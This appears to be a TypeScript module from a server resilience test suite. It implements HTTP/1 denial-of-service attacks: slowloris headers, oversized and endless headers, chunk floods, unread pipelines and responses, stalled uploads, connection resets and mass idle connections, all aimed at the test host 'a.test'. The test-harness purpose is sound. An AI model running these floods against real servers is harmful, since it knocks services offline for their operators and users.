/** Attacks on a port that speaks HTTP/1. */
import { type Attack, type Attacks, pause } from "./attack.ts";

const host = "host: a.test\r\n";
const get = `GET / HTTP/1.1\r\n${host}\r\n`;
/** Its body is thrown away by the application, whose own work would be the larger part otherwise. */
const anyPost = `POST / HTTP/1.1\r\n${host}transfer-encoding: chunked\r\n\r\n`;
const chunkedPost = `POST /digest HTTP/1.1\r\n${host}transfer-encoding: chunked\r\n\r\n`;

export const http1Attacks: Attacks = {
  /** Heads that never end, a line every tenth of a second (slowloris). */
  "slow heads": async (attack) => {
    const sockets = await attack.connectMany(500);
    for (const socket of sockets) await attack.send(socket, `GET / HTTP/1.1\r\n${host}`);
    while (!attack.over) {
      for (const socket of sockets) void attack.send(socket, "x: y\r\n");
      await pause(100);
    }
  },
  /** As much of a head as may be kept, on many connections. */
  "huge unfinished heads": async (attack) => {
    const head = `GET / HTTP/1.1\r\n${host}cookie: ${"c".repeat(60_000)}`;
    const sockets = await attack.connectMany(100);
    await Promise.all(sockets.map((socket) => attack.send(socket, head)));
    await attack.linger();
  },
  /** As many header lines as may be, each as small as can be, in requests that go through. */
  "requests of many header lines": (attack) => {
    const lines = Array.from({ length: 120 }, (_, n) => `${n.toString(36)}:\r\n`).join("");
    return exchange(attack, `GET / HTTP/1.1\r\n${host}${lines}\r\n`);
  },
  "header lines without end": (attack) =>
    attack.flood(`GET / HTTP/1.1\r\n${host}`, () => "a:\r\n".repeat(200)),
  "chunk extensions": (attack) =>
    attack.flood(chunkedPost, () => `1;${"e".repeat(4_000)}\r\nx\r\n`),
  "chunks of one byte": (attack) => attack.flood(anyPost, () => "1\r\nx\r\n".repeat(2_000)),
  "pipelines that are read": (attack) => exchange(attack, get.repeat(50), 50),
  "pipelines that are not read": async (attack) => {
    const sockets = await attack.connectMany(50, { deaf: true });
    const block = get.repeat(500);
    const run = async (socket: (typeof sockets)[number]): Promise<void> => {
      while (await attack.send(socket, block));
    };
    await Promise.all(sockets.map(run));
  },
  "large answers that are not read": async (attack) => {
    const sockets = await attack.connectMany(100, { deaf: true });
    for (const socket of sockets) {
      await attack.send(socket, `GET /bytes/100000000 HTTP/1.1\r\n${host}\r\n`);
    }
    await attack.linger();
  },
  /** Uploads that stop half-way: each holds a connection to the application too. */
  "bodies that never end": async (attack) => {
    const sockets = await attack.connectMany(200);
    const head = `POST /digest HTTP/1.1\r\n${host}content-length: 1000000\r\n\r\n`;
    for (const socket of sockets) await attack.send(socket, `${head}${"b".repeat(1_000)}`);
    await attack.linger();
  },
  "bad requests": (attack) => attack.flood("", () => "GET  / HTTP/1.1\r\n\r\n"),
  /** Opened and reset at once, as many as the attacker can. */
  "connections that are reset": async (attack) => {
    const run = async (): Promise<void> => {
      while (!attack.over) (await attack.connect())?.resetAndDestroy();
    };
    await Promise.all(Array.from({ length: 50 }, run));
  },
  "idle connections": async (attack) => {
    await attack.connectMany(Number(process.env["IDLE"] ?? "10000"), { deaf: true });
    await attack.linger();
  },
};

/** Sends the same block and waits for its answers, on a few connections at once. */
async function exchange(attack: Attack, block: string, answers = 1): Promise<void> {
  const run = async (): Promise<void> => {
    const socket = await attack.connect();
    if (socket === undefined) return;
    let heard = 0;
    let next = (): void => {};
    socket.on("data", (chunk: Buffer) => {
      heard += chunk.toString("latin1").split("HTTP/1.1 ").length - 1;
      if (heard >= answers) next();
    });
    socket.on("close", () => next());
    while (!attack.over && !socket.destroyed) {
      heard = 0;
      const answered = new Promise<void>((resolve) => (next = resolve));
      if (!(await attack.send(socket, block))) return;
      await answered;
    }
  };
  await Promise.all(Array.from({ length: 4 }, run));
}
